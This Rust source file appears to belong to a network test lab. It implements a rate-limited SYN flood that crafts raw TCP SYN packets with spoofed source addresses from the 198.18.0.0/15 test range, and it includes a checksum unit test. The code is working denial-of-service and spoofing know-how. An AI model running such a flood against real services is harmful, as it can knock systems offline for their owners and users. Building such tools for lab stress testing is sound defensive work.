//! A SYN flood from addresses that are nobody's, at a bounded rate and inside the lab only.

use std::io;
use std::net::Ipv4Addr;
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

/// How often a handful of packets goes out.
const BEAT: Duration = Duration::from_millis(2);

/// Where the flood seems to come from: 198.18.0.0/15, which is set aside for tests.
const SOURCES: u32 = 0xc612_0000;
const SOURCE_BITS: u32 = 17;

const IP: usize = 20;
const TCP: usize = 20;

/// Sends SYNs to a service until it is told to stop, so many in a second, and counts them. Call it
/// inside a namespace.
pub(super) fn run(target: (Ipv4Addr, u16), per_second: u32, stop: &AtomicBool) -> Result<u64> {
    let socket = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::empty(),
        SockProtocol::Raw,
    )?;
    let address = SockaddrIn::from(std::net::SocketAddrV4::new(target.0, 0));
    let began = Instant::now();
    let (mut sent, mut number) = (0_u64, 0x9e37_79b9_u32);
    while !stop.load(Ordering::Relaxed) {
        let due = began.elapsed().as_micros() as u64 * u64::from(per_second) / 1_000_000;
        while sent < due {
            // Numbers without a pattern, the same in every run.
            number = number.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let source = SOURCES | (number >> (32 - SOURCE_BITS));
            let packet = syn(Ipv4Addr::from(source), (number >> 4) as u16 | 1024, target);
            match sendto(socket.as_raw_fd(), &packet, &address, MsgFlags::empty()) {
                // What does not fit into the queue is lost, as in any network.
                Ok(_) | Err(nix::Error::ENOBUFS) => sent += 1,
                Err(error) => return Err(io::Error::from(error).into()),
            }
        }
        thread::sleep(BEAT);
    }
    Ok(sent)
}

/// A SYN without data, all of whose checksums are right but that of IP, which the kernel fills in.
fn syn(source: Ipv4Addr, port: u16, target: (Ipv4Addr, u16)) -> [u8; IP + TCP] {
    let mut packet = [0; IP + TCP];
    let (ip, tcp) = packet.split_at_mut(IP);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&((IP + TCP) as u16).to_be_bytes());
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&target.0.octets());
    tcp[0..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.1.to_be_bytes());
    tcp[12] = 0x50;
    tcp[13] = 0x02;
    tcp[14..16].copy_from_slice(&64_240_u16.to_be_bytes());
    let checksum = checksum(&ip[12..20], tcp);
    tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

fn checksum(addresses: &[u8], tcp: &[u8]) -> u16 {
    let words = addresses.chunks(2).chain(tcp.chunks(2));
    let pseudo = 6 + TCP as u32;
    let mut sum: u32 = words
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])))
        .sum::<u32>()
        + pseudo;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;

    use super::{IP, TCP, checksum, syn};

    #[test]
    fn the_checksum_of_a_packet_with_its_checksum_is_zero() {
        let target = (Ipv4Addr::new(203, 0, 113, 10), 443);
        let packet = syn(Ipv4Addr::new(198, 18, 1, 2), 4711, target);
        assert_eq!(packet.len(), IP + TCP);
        assert_eq!(checksum(&packet[12..20], &packet[IP..]), 0);
    }
}
